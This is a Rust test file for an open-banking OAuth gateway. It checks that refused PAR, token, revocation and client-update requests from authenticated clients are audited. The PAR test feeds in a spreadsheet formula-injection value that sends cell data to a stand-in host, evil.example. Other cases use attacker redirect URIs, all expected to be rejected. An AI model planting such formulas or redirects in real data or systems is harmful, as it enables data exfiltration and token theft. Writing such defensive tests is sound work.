//! Refusals at the OAuth endpoints of a client that did authenticate are audited like every
//! other refusal of an authenticated request (issue 11, item 12): a `deny` event carrying the
//! request id — at PAR (`consent_created`), at the token endpoint (`token_issued`, naming the
//! consent of the code or refresh token), at revocation (`consent_revoked`) — and a client's
//! own registration update (RFC 7592) is audited as `client_updated`, accepted (key ids before
//! and after, never key material) or refused. A request whose client does not authenticate is
//! not audited.

use bankgate::demo::{Answer, FlowTrace, PlatformClient, account_information};
use bankgate::jose::ClientKey;
use bankgate::model::Scope;
use serde_json::{Value, json};

use super::support::{Options, REDIRECT_URI, StoreKind, TestGateway};

const BALANCE_SCOPES: &[Scope] = &[Scope::Accounts, Scope::Balances];

on_both_stores!(
    par_refusals_of_an_authenticated_client_are_audited,
    token_refusals_of_an_authenticated_client_are_audited,
    client_updates_are_audited,
);

/// The events carrying the request id of `answer`.
async fn events_of(gateway: &TestGateway, answer: &Answer) -> Vec<Value> {
    let request_id = answer.headers["x-request-id"].to_str().unwrap().to_owned();
    let token = gateway.compliance.client_credentials().await.unwrap();
    let (status, body) = gateway
        .compliance
        .get(&token, "/v1/audit/events?limit=1000")
        .await
        .unwrap();
    assert_eq!(status, 200, "{body}");
    body["events"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|event| event["request_id"] == request_id.as_str())
        .cloned()
        .collect()
}

/// The one event of `answer`'s request, which must be a `deny` of `action`.
async fn refusal(gateway: &TestGateway, answer: &Answer, action: &str) -> Value {
    let events = events_of(gateway, answer).await;
    assert_eq!(
        events.len(),
        1,
        "one event for the request answered {} {:?}: {events:?}",
        answer.status,
        answer.json()
    );
    let event = events[0].clone();
    assert_eq!(event["action"], action, "{event}");
    assert_eq!(event["decision"], "deny", "{event}");
    event
}

/// A PAR form with PKCE and one authorization detail, as `client` would push it.
fn par_form(detail: &Value) -> Vec<(String, String)> {
    let verifier = "a-code-verifier-that-is-long-enough-for-pkce-s256-0123456789";
    [
        ("response_type", "code".to_owned()),
        ("redirect_uri", REDIRECT_URI.to_owned()),
        ("state", "s-1".to_owned()),
        ("code_challenge", bankgate::crypto::pkce_s256(verifier)),
        ("code_challenge_method", "S256".to_owned()),
        ("authorization_details", json!([detail]).to_string()),
    ]
    .into_iter()
    .map(|(name, value)| (name.to_owned(), value))
    .collect()
}

async fn post(client: &PlatformClient, path: &str, form: &[(String, String)]) -> Answer {
    let form: Vec<(&str, &str)> = form
        .iter()
        .map(|(name, value)| (name.as_str(), value.as_str()))
        .collect();
    client
        .send(reqwest::Method::POST, path, None, Some(&form))
        .await
        .unwrap()
}

fn detail(bank: &str, purpose: &str, scopes: &[&str]) -> Value {
    json!({
        "type": "account_information", "bank": bank, "purpose": purpose, "scopes": scopes,
        "history_days": 0, "expires_in_days": 90, "user_ref": "u-par-refused",
    })
}

async fn par_refusals_of_an_authenticated_client_are_audited(kind: StoreKind) {
    let gateway = TestGateway::start(kind).await;
    let platform = gateway.fapi_platform("fapi-app", None).await;
    let formula = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")";
    let allowed = detail("demo-bank", "balance-alerts", &["accounts", "balances"]);
    let with = |name: &str, value: Option<&str>| {
        let mut form = par_form(&allowed);
        form.retain(|(field, _)| field != name);
        if let Some(value) = value {
            form.push((name.to_owned(), value.to_owned()));
        }
        form
    };

    // (case, form, OAuth error, bank named, purpose named, reason contains)
    let cases = [
        (
            "a bank the gateway does not run",
            par_form(&detail(formula, "balance-alerts", &["accounts"])),
            "invalid_authorization_details",
            Value::Null,
            json!("balance-alerts"),
            "unknown bank \"=HYPERLINK",
        ),
        (
            "a purpose the platform is not approved for",
            par_form(&detail("demo-bank", "credit-assessment", &["accounts"])),
            "invalid_authorization_details",
            json!("demo-bank"),
            json!("credit-assessment"),
            "credit-assessment",
        ),
        (
            "a purpose that does not exist",
            par_form(&detail("demo-bank", "@made-up", &["accounts"])),
            "invalid_authorization_details",
            json!("demo-bank"),
            Value::Null,
            "@made-up",
        ),
        (
            "scopes beyond the purpose",
            par_form(&detail(
                "demo-bank",
                "balance-alerts",
                &["accounts", "transactions"],
            )),
            "invalid_authorization_details",
            json!("demo-bank"),
            json!("balance-alerts"),
            "transactions",
        ),
        (
            "a redirect URI it did not register",
            with("redirect_uri", Some("https://evil.example/cb")),
            "invalid_request",
            json!("demo-bank"),
            json!("balance-alerts"),
            "redirect_uri is not registered",
        ),
        (
            "no PKCE",
            with("code_challenge", None),
            "invalid_request",
            json!("demo-bank"),
            json!("balance-alerts"),
            "code_challenge",
        ),
        (
            "a dpop_jkt that is not its proof's key",
            with("dpop_jkt", Some(&"A".repeat(43))),
            "invalid_dpop_proof",
            json!("demo-bank"),
            json!("balance-alerts"),
            "dpop_jkt does not match",
        ),
    ];
    for (case, form, error, bank, purpose, reason) in cases {
        let answer = post(&platform, "/oauth/par", &form).await;
        assert_eq!(answer.status, 400, "{case}: {:?}", answer.json());
        assert_eq!(answer.json()["error"], error, "{case}");
        let event = refusal(&gateway, &answer, "consent_created").await;
        assert_eq!(event["actor"], "fapi-app", "{case}");
        assert_eq!(event["platform"], "fapi-app", "{case}");
        assert_eq!(event["bank"], bank, "{case}: {event}");
        assert_eq!(event["purpose"], purpose, "{case}: {event}");
        assert_eq!(event["consent"], Value::Null, "{case}");
        let said = event["reason"].as_str().unwrap();
        assert!(
            said.starts_with(&format!("{error}: ")) && said.contains(reason),
            "{case}: {said}"
        );
        // The user reference is on the record, pseudonymised.
        let user_ref = event["user_ref"].as_str().unwrap();
        assert!(user_ref.starts_with("up_"), "{case}: {event}");
    }

    // A client that is not a platform: unauthorized_client, on the record.
    let compliance = &gateway.compliance;
    let answer = post(compliance, "/oauth/par", &par_form(&allowed)).await;
    assert_eq!(answer.status, 400);
    assert_eq!(answer.json()["error"], "unauthorized_client");
    let event = refusal(&gateway, &answer, "consent_created").await;
    assert_eq!(event["actor"], "compliance-office");
    assert_eq!(event["platform"], Value::Null, "not a platform");
    assert_eq!(event["bank"], "demo-bank");

    // A client that does not authenticate is not audited (nothing says who it is).
    let stranger = PlatformClient::new(&gateway.base, "fapi-app", "", REDIRECT_URI)
        .unwrap()
        .with_private_key_jwt(ClientKey::generate_es256().unwrap());
    let answer = post(&stranger, "/oauth/par", &par_form(&allowed)).await;
    assert_eq!(answer.status, 401, "{:?}", answer.json());
    assert_eq!(events_of(&gateway, &answer).await, Vec::<Value>::new());

    // An accepted request still is: the consent is created at the consent screen.
    let answer = post(&platform, "/oauth/par", &par_form(&allowed)).await;
    assert_eq!(answer.status, 201, "{:?}", answer.json());
    assert_eq!(events_of(&gateway, &answer).await, Vec::<Value>::new());
}

async fn token_refusals_of_an_authenticated_client_are_audited(kind: StoreKind) {
    let gateway = TestGateway::start(kind).await;
    let platform = gateway.fapi_platform("fapi-app", None).await;
    let detail = account_information("demo-bank", "balance-alerts", BALANCE_SCOPES, "u-token");
    let pushed = platform.push(&detail).await.unwrap();
    let code = platform
        .approve(&pushed, &mut FlowTrace::default())
        .await
        .unwrap();
    let other_key = platform
        .without_dpop()
        .unwrap()
        .with_dpop(ClientKey::generate_ed25519().unwrap());
    let exchange = |verifier: &'static str, redirect: Option<&'static str>| {
        let mut form = vec![
            ("grant_type", "authorization_code".to_owned()),
            ("code", code.clone()),
            (
                "code_verifier",
                match verifier {
                    "" => pushed.code_verifier.clone(),
                    wrong => wrong.to_owned(),
                },
            ),
        ];
        if let Some(redirect) = redirect {
            form.push(("redirect_uri", redirect.to_owned()));
        }
        form.into_iter()
            .map(|(name, value)| (name.to_owned(), value))
            .collect::<Vec<_>>()
    };

    // (case, client, form, OAuth error, reason contains): each names the code's consent.
    let wrong_verifier = "wrong-verifier-wrong-verifier-wrong-verifier-0123";
    let cases = [
        (
            "a wrong PKCE verifier",
            &platform,
            exchange(wrong_verifier, Some(REDIRECT_URI)),
            "invalid_grant",
            "PKCE verification failed",
        ),
        (
            "no redirect_uri",
            &platform,
            exchange("", None),
            "invalid_request",
            "redirect_uri is required",
        ),
        (
            "another redirect_uri",
            &platform,
            exchange("", Some("https://evil.example/cb")),
            "invalid_grant",
            "redirect_uri differs",
        ),
        (
            "a proof by another DPoP key",
            &other_key,
            exchange("", Some(REDIRECT_URI)),
            "invalid_dpop_proof",
            "bound to another DPoP key",
        ),
    ];
    let mut consent_id = None;
    for (case, client, form, error, reason) in cases {
        let answer = post(client, "/oauth/token", &form).await;
        assert_eq!(answer.status, 400, "{case}: {:?}", answer.json());
        assert_eq!(answer.json()["error"], error, "{case}");
        let event = refusal(&gateway, &answer, "token_issued").await;
        assert_eq!(event["actor"], "fapi-app", "{case}");
        assert_eq!(event["platform"], "fapi-app", "{case}");
        assert_eq!(event["bank"], "demo-bank", "{case}");
        assert_eq!(event["purpose"], "balance-alerts", "{case}");
        assert!(event["consent"].is_string(), "{case}: {event}");
        consent_id.get_or_insert(event["consent"].clone());
        assert_eq!(event["consent"], consent_id.clone().unwrap(), "{case}");
        let said = event["reason"].as_str().unwrap();
        assert!(
            said.starts_with(&format!("{error}: ")) && said.contains(reason),
            "{case}: {said}"
        );
        assert!(!said.contains(&pushed.code_verifier) && !said.contains(wrong_verifier));
    }
    // The code survived every refusal: the corrected request gets tokens.
    let token = platform.exchange(&code, &pushed).await.unwrap();
    assert_eq!(json!(token.consent_id), consent_id.unwrap());

    // Refusals that concern no consent: the client is named, and nothing else.
    let form = |pairs: &[(&str, &str)]| -> Vec<(String, String)> {
        pairs
            .iter()
            .map(|(name, value)| ((*name).to_owned(), (*value).to_owned()))
            .collect()
    };
    for (case, path, form, action, error) in [
        (
            "an unknown refresh token",
            "/oauth/token",
            form(&[
                ("grant_type", "refresh_token"),
                ("refresh_token", "made-up"),
            ]),
            "token_issued",
            "invalid_grant",
        ),
        (
            "an unsupported grant type",
            "/oauth/token",
            form(&[("grant_type", "password")]),
            "token_issued",
            "unsupported_grant_type",
        ),
        (
            "a revocation without a token",
            "/oauth/revoke",
            form(&[]),
            "consent_revoked",
            "invalid_request",
        ),
    ] {
        let answer = post(&platform, path, &form).await;
        assert_eq!(answer.status, 400, "{case}: {:?}", answer.json());
        assert_eq!(answer.json()["error"], error, "{case}");
        let event = refusal(&gateway, &answer, action).await;
        assert_eq!(event["actor"], "fapi-app", "{case}");
        assert_eq!(event["platform"], "fapi-app", "{case}");
        assert_eq!(event["consent"], Value::Null, "{case}");
        assert_eq!(event["bank"], Value::Null, "{case}");
    }

    // A refresh token of this client for a consent that is revoked: the consent is named.
    let refresh_token = token.refresh_token.clone().unwrap();
    let (status, _) = platform
        .delete(
            &token.access_token,
            &format!("/v1/consents/{}", token.consent_id),
        )
        .await
        .unwrap();
    assert_eq!(status, 204);
    let answer = post(
        &platform,
        "/oauth/token",
        &form(&[
            ("grant_type", "refresh_token"),
            ("refresh_token", &refresh_token),
        ]),
    )
    .await;
    assert_eq!(answer.status, 400, "{:?}", answer.json());
    let event = refusal(&gateway, &answer, "token_issued").await;
    assert_eq!(event["consent"], token.consent_id.as_str());
    let said = event["reason"].as_str().unwrap();
    assert!(said.starts_with("invalid_grant: "), "{said}");

    // A client that does not authenticate is not audited.
    let stranger = PlatformClient::new(&gateway.base, "fapi-app", "", REDIRECT_URI)
        .unwrap()
        .with_private_key_jwt(ClientKey::generate_es256().unwrap());
    let answer = post(&stranger, "/oauth/token", &exchange("", Some(REDIRECT_URI))).await;
    assert_eq!(answer.status, 401, "{:?}", answer.json());
    assert_eq!(events_of(&gateway, &answer).await, Vec::<Value>::new());
}

const OPERATOR_TOKEN: &str = "operator-token-for-client-updates";

/// `method` on a configuration endpoint with `token`, as a raw answer.
async fn configure(method: reqwest::Method, uri: &str, token: &str, body: &str) -> Answer {
    let response = reqwest::Client::new()
        .request(method, uri)
        .bearer_auth(token)
        .header("content-type", "application/json")
        .body(body.to_owned())
        .send()
        .await
        .unwrap();
    Answer {
        status: response.status().as_u16(),
        headers: response.headers().clone(),
        body: response.bytes().await.unwrap(),
    }
}

async fn client_updates_are_audited(kind: StoreKind) {
    let gateway = TestGateway::start_with(
        kind,
        Options {
            admin_token: Some(OPERATOR_TOKEN.into()),
            ..Options::default()
        },
    )
    .await;
    let old = ClientKey::generate_es256().unwrap();
    let registered: Value = reqwest::Client::new()
        .post(format!("{}/admin/clients", gateway.base))
        .bearer_auth(OPERATOR_TOKEN)
        .json(&json!({
            "client_id": "rotating", "name": "Rotating", "redirect_uris": [REDIRECT_URI],
            "allowed_purposes": ["balance-alerts"], "jwks": old.jwks(),
        }))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    let uri = registered["registration_client_uri"].as_str().unwrap();
    let token = registered["registration_access_token"].as_str().unwrap();
    let (first, second) = (
        ClientKey::generate_es256().unwrap(),
        ClientKey::generate_ed25519().unwrap(),
    );
    let both = json!({"keys": [first.jwk(), second.jwk()]});
    let update = |extra: Value| {
        let mut body = json!({"client_id": "rotating", "jwks": both});
        body.as_object_mut()
            .unwrap()
            .extend(extra.as_object().unwrap().clone());
        body.to_string()
    };

    // Refused updates: each a deny saying why, with the request id.
    for (case, body, reason) in [
        (
            "an operator's field",
            update(json!({"allowed_purposes": ["credit-assessment"]})),
            "allowed_purposes is the operator's to change",
        ),
        (
            "private key material",
            update(json!({"jwks": {"keys": [{"kty": "oct", "k": "c2VjcmV0"}]}})),
            "jwks",
        ),
        (
            "not JSON",
            "{not json".to_owned(),
            "not a client registration",
        ),
    ] {
        let answer = configure(reqwest::Method::PUT, uri, token, &body).await;
        assert_eq!(answer.status, 400, "{case}: {:?}", answer.json());
        let event = refusal(&gateway, &answer, "client_updated").await;
        assert_eq!(event["actor"], "rotating", "{case}");
        assert_eq!(event["platform"], "rotating", "{case}");
        let said = event["reason"].as_str().unwrap();
        assert!(
            said.starts_with("invalid_client_metadata: ") && said.contains(reason),
            "{case}: {said}"
        );
    }

    // Without the registration access token nothing is authenticated, and nothing audited.
    let answer = configure(
        reqwest::Method::PUT,
        uri,
        "not-the-token",
        &update(json!({})),
    )
    .await;
    assert_eq!(answer.status, 401);
    assert_eq!(events_of(&gateway, &answer).await, Vec::<Value>::new());

    // The rotation: allowed, with the key ids before and after, and no key material.
    let answer = configure(reqwest::Method::PUT, uri, token, &update(json!({}))).await;
    assert_eq!(answer.status, 200, "{:?}", answer.json());
    let events = events_of(&gateway, &answer).await;
    assert_eq!(events.len(), 1, "{events:?}");
    let event = &events[0];
    assert_eq!(event["action"], "client_updated");
    assert_eq!(event["decision"], "allow");
    assert_eq!(event["actor"], "rotating");
    assert_eq!(event["platform"], "rotating");
    assert_eq!(
        event["reason"],
        format!(
            "keys [kid {:?}] -> [kid {:?}, kid {:?}]",
            old.kid, first.kid, second.kid
        )
    );
    let event_text = event.to_string();
    for key in [&old, &first, &second] {
        let x = key.jwk()["x"].as_str().unwrap();
        assert!(!event_text.contains(x), "no key material: {event_text}");
    }
    // And the new keys are the ones in force.
    let rotated = PlatformClient::new(&gateway.base, "rotating", "", REDIRECT_URI)
        .unwrap()
        .with_private_key_jwt(second)
        .with_dpop(ClientKey::generate_ed25519().unwrap());
    rotated.client_credentials().await.unwrap();
}
